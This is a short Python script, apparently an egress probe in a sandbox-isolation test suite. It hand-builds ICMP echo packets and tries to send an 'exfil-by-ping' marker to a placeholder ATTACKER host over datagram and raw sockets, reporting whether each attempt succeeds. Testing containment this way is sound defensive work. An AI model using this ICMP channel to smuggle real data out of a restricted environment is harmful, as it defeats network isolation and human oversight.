"""ICMP echo to the attacker: an unprivileged ping socket, then a raw ICMP socket."""
import socket
import struct

from _common import ATTACKER, attempt, report


def echo(kind: int) -> int:
    payload = b"exfil-by-ping!"  # even length: the checksum sums 16-bit words
    body = struct.pack(">BBHHH", 8, 0, 0, 0x4242, 1) + payload
    csum = sum(struct.unpack(f">{len(body) // 2}H", body))
    csum = (csum >> 16) + (csum & 0xFFFF)
    csum = ~(csum + (csum >> 16)) & 0xFFFF
    body = body[:2] + struct.pack(">H", csum) + body[4:]
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
        return s.sendto(body, (ATTACKER, 0))


attempt("icmp-dgram", lambda: echo(socket.SOCK_DGRAM))
attempt("icmp-raw", lambda: echo(socket.SOCK_RAW))
report()
